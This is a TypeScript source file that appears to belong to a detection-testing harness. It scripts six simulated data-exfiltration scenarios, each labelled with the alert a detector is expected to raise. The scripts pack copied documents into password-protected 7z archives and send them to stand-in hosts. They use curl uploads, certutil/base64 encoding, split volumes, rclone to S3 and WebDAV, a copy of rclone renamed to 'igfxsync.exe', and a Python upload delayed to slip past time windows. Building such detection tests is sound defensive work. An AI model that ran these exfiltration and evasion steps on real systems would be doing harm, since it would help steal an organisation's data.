/** Six ways to take an archive out through TLS. All use real archivers and real uploads inside the recording network. */
import { copyFileSync } from 'node:fs';
import { join } from 'node:path';
import { writeDocuments } from './documents.ts';
import { pythonSender, readMail, syncFiles } from './ordinary.ts';
import type { Session } from './session.ts';
import { sleep } from './shell.ts';
import type { Story } from './story.ts';

/** A person types. */
const THINK_MILLISECONDS = 4000;

const think = (): Promise<void> => sleep(THINK_MILLISECONDS);

interface Packed {
  /** Directory below the home, and what Windows calls it. */
  readonly directory: string;
  readonly windowsDirectory: string;
  readonly archive: string;
  readonly switches: readonly string[];
  /** Switches as the Windows command line shows them. */
  readonly shown: string;
}

/** 7z over documents that the shell copied into the staging directory before. */
async function stageAndPack(
  session: Session,
  packed: Packed,
  stem: string,
  count: number,
  bytesEach: number,
): Promise<void> {
  const source = join(session.home, 'Documents');
  const names = writeDocuments(source, { stem, extension: 'xlsx', count, bytesEach });
  const target = join(session.home, packed.directory);
  await session.watch(packed.directory, packed.windowsDirectory);
  for (const name of names) await session.builtin(['cp', join(source, name), target]);
  await think();
  const files = names.map((name) => join(target, name));
  const archive = join(target, packed.archive);
  await session.run('7z', ['7z', 'a', ...packed.switches, archive, ...files], {
    arguments: `a ${packed.shown} ${packed.windowsDirectory}\\${packed.archive} ${packed.windowsDirectory}\\*.xlsx`,
  });
}

async function curlUpload(session: Session, file: string, windowsFile: string, url: string): Promise<void> {
  await session.run('curl', ['curl', '-s', '-T', file, url], { arguments: `-s -T ${windowsFile} ${url}` });
}

const exfilArchive: Story = {
  name: 'story-exfil-archive',
  hour: 9,
  whole: true,
  expectation: {
    shows:
      'Password archive made from copied documents, sent whole by curl.exe to a destination nobody has met, then deleted.',
    expect: 'alert',
    why: 'New destination; command line names the archive; upload bytes equal the archive size within one percent.',
    focus: { host: 'WS-FIN-01', destination: 'drop.quietharbor.example', executable: 'curl.exe', archive: 'ledger.7z' },
  },
  play: async (take) => {
    const session = take.session('WS-FIN-01', 'k.lind');
    await readMail(session);
    const windowsDirectory = 'C:\\Users\\k.lind\\AppData\\Local\\Temp\\q3';
    await session.enter('powershell', '-NoLogo');
    const packed = {
      directory: 'q3',
      windowsDirectory,
      archive: 'ledger.7z',
      switches: ['-pSommer2026', '-mhe=on', '-mx=1'],
    };
    await stageAndPack(session, { ...packed, shown: '-pSommer2026 -mhe=on' }, 'ledger', 12, 300_000);
    await think();
    const url = 'https://drop.quietharbor.example/in/ledger.7z';
    await curlUpload(session, join(session.home, 'q3/ledger.7z'), `${windowsDirectory}\\ledger.7z`, url);
    await think();
    await session.builtin(['rm', join(session.home, 'q3/ledger.7z')]);
    await session.leave();
    await syncFiles(session, 30_000);
    return undefined;
  },
};

const exfilBase64: Story = {
  name: 'story-exfil-base64',
  hour: 10,
  expectation: {
    shows:
      'Archive turned into text (certutil -encode), then posted: upload bytes are 4/3 of the archive and a little.',
    expect: 'alert',
    why: 'New destination; byte balance at the base64 ratio; encoder and uploader in one lineage with the archiver.',
    focus: { host: 'WS-LAW-02', destination: 'paste.textdepot.example', executable: 'curl.exe', archive: 'cases.7z' },
  },
  play: async (take) => {
    const session = take.session('WS-LAW-02', 'm.sand');
    await readMail(session);
    const windowsDirectory = 'C:\\Users\\Public\\Libraries';
    await session.enter('powershell', '-NoProfile');
    const packed = {
      directory: 'libraries',
      windowsDirectory,
      archive: 'cases.7z',
      switches: ['-pA17!', '-mx=1'],
      shown: '-pA17!',
    };
    await stageAndPack(session, packed, 'case', 8, 180_000);
    const archive = join(session.home, 'libraries/cases.7z');
    const text = join(session.home, 'libraries/cases.txt');
    await session.run('certutil', ['openssl', 'base64', '-in', archive, '-out', text], {
      arguments: `-encode ${windowsDirectory}\\cases.7z ${windowsDirectory}\\cases.txt`,
    });
    await think();
    const url = 'https://paste.textdepot.example/new';
    await session.run('curl', ['curl', '-s', '--data-binary', `@${text}`, url], {
      arguments: `-s --data-binary @${windowsDirectory}\\cases.txt ${url}`,
    });
    await session.leave();
    return undefined;
  },
};

const VOLUMES = ['001', '002', '003', '004', '005'];

const exfilChunks: Story = {
  name: 'story-exfil-chunks',
  hour: 11,
  expectation: {
    shows:
      'Split archive (7z -v), one curl.exe and one flow for every volume: no single flow is as large as the archive.',
    expect: 'alert',
    why: 'New destination; the sum of the flows of one lineage equals the sum of the volumes.',
    focus: { host: 'WS-OPS-05', destination: 'up.splitstone.example', executable: 'curl.exe', archive: 'maps.7z.001' },
  },
  play: async (take) => {
    const session = take.session('WS-OPS-05', 'p.novak');
    const windowsDirectory = 'C:\\ProgramData\\maps';
    await session.enter('powershell', '-NoLogo');
    const switches = ['-v512k', '-pN0rd', '-mx=1'];
    await stageAndPack(
      session,
      { directory: 'maps', windowsDirectory, archive: 'maps.7z', switches, shown: '-v512k -pN0rd' },
      'site',
      9,
      260_000,
    );
    for (const volume of VOLUMES) {
      await think();
      const name = `maps.7z.${volume}`;
      const url = `https://up.splitstone.example/${volume}`;
      await curlUpload(session, join(session.home, 'maps', name), `${windowsDirectory}\\${name}`, url);
    }
    await session.leave();
    await readMail(session);
    return undefined;
  },
};

const exfilCloudTenant: Story = {
  name: 'story-exfil-cloud-tenant',
  hour: 12,
  expectation: {
    shows:
      'rclone sends an archive to a bucket of a cloud that the organisation uses every day, but to a tenant it has never met.',
    expect: 'alert',
    why: 'Provider known, tenant new to the organisation; new tool; archive named by the command line. No sizes in this feed (Sysmon).',
    focus: {
      host: 'WS-SAL-06',
      destination: 'exfil-drop.s3.eu-central-1.amazonaws.com',
      executable: 'rclone.exe',
      archive: 'deals.zip',
    },
  },
  play: async (take) => {
    const session = take.session('WS-SAL-06', 's.ito');
    await readMail(session);
    const windowsDirectory = 'C:\\Users\\s.ito\\AppData\\Local\\Temp\\deals';
    await session.enter('powershell', '-NoLogo');
    const switches = ['-tzip', '-pk33p', '-mx=1'];
    await stageAndPack(
      session,
      { directory: 'deals', windowsDirectory, archive: 'deals.zip', switches, shown: '-tzip -pk33p' },
      'deal',
      7,
      230_000,
    );
    await think();
    const s3 = [
      '--s3-provider',
      'AWS',
      '--s3-region',
      'eu-central-1',
      '--s3-force-path-style=false',
      '--s3-no-check-bucket',
      '--s3-no-head',
    ];
    const keys = ['--s3-access-key-id', 'RECORDING', '--s3-secret-access-key', 'not-a-secret'];
    const archive = join(session.home, 'deals/deals.zip');
    await session.run(
      'rclone',
      ['rclone', 'copy', archive, ':s3:exfil-drop/in', ...s3, ...keys, '--ignore-times', '--retries', '1'],
      {
        arguments: `copy ${windowsDirectory}\\deals.zip drop:exfil-drop/in --s3-no-check-bucket`,
      },
    );
    await session.leave();
    return undefined;
  },
};

const exfilRenamedRclone: Story = {
  name: 'story-exfil-renamed-rclone',
  hour: 13,
  expectation: {
    shows:
      'rclone copied to another name in ProgramData, WebDAV to a new destination, in an NXLog feed with local time and whole seconds.',
    expect: 'alert',
    why: 'New destination; OriginalFileName is rclone.exe; unsigned, new in the organisation; archive in its command line.',
    focus: {
      host: 'WS-HR-04',
      destination: 'dav.parkway-files.example',
      executable: 'igfxsync.exe',
      archive: 'staff.7z',
    },
  },
  play: async (take) => {
    const session = take.session('WS-HR-04', 't.moreau');
    await readMail(session);
    const windowsDirectory = 'C:\\ProgramData\\Intel';
    await session.enter('cmd', '');
    const tool = join(session.home, 'igfxsync');
    copyFileSync('/usr/bin/rclone', tool);
    const switches = ['-pHR!2026', '-mhe=on', '-mx=1'];
    await stageAndPack(
      session,
      { directory: 'intel', windowsDirectory, archive: 'staff.7z', switches, shown: '-pHR!2026 -mhe=on' },
      'staff',
      10,
      220_000,
    );
    await think();
    const archive = join(session.home, 'intel/staff.7z');
    const dav = ['--webdav-url', 'https://dav.parkway-files.example', '--ignore-times', '--retries', '1'];
    await session.run('rclone-renamed', [tool, 'copy', archive, ':webdav:', ...dav], {
      arguments: `copy ${windowsDirectory}\\staff.7z dav: --config ${windowsDirectory}\\i.conf`,
    });
    await think();
    await session.builtin(['rm', archive]);
    await session.leave();
    return undefined;
  },
};

const exfilTwoHours: Story = {
  name: 'story-exfil-two-hours',
  hour: 14,
  gapHours: 2,
  expectation: {
    shows: 'Archive at 14:00, upload by a Python script two hours later: outside any five-minute window.',
    expect: 'alert',
    why: 'New destination; byte balance and the same logon session outlive the time gap.',
    focus: { host: 'WS-MKT-07', destination: 'api.nightferry.example', executable: 'python.exe', archive: 'plan.7z' },
    constructed: [
      'Everything from the second shell on was recorded seconds after the archive and moved two hours later.',
    ],
  },
  play: async (take) => {
    const session = take.session('WS-MKT-07', 'l.duarte');
    const windowsDirectory = 'C:\\Users\\l.duarte\\AppData\\Local\\Temp\\plan';
    await session.enter('powershell', '-NoLogo');
    const packed = {
      directory: 'plan',
      windowsDirectory,
      archive: 'plan.7z',
      switches: ['-pvelo', '-mx=1'],
      shown: '-pvelo',
    };
    await stageAndPack(session, packed, 'plan', 6, 330_000);
    await session.leave();
    await sleep(THINK_MILLISECONDS / 2);
    const gap = Date.now() * 1000;
    await sleep(THINK_MILLISECONDS / 2);
    await readMail(session);
    await session.enter('powershell', '-NoLogo');
    const archive = join(session.home, 'plan/plan.7z');
    const command = [
      '/usr/bin/python3',
      pythonSender(session),
      'https://api.nightferry.example/v1/put',
      archive,
      'PUT',
    ];
    await session.run('python', command, { arguments: `C:\\Users\\l.duarte\\push.py ${windowsDirectory}\\plan.7z` });
    await session.leave();
    return gap;
  },
};

export const EXFILTRATION_STORIES: readonly Story[] = [
  exfilArchive,
  exfilBase64,
  exfilChunks,
  exfilCloudTenant,
  exfilRenamedRclone,
  exfilTwoHours,
];
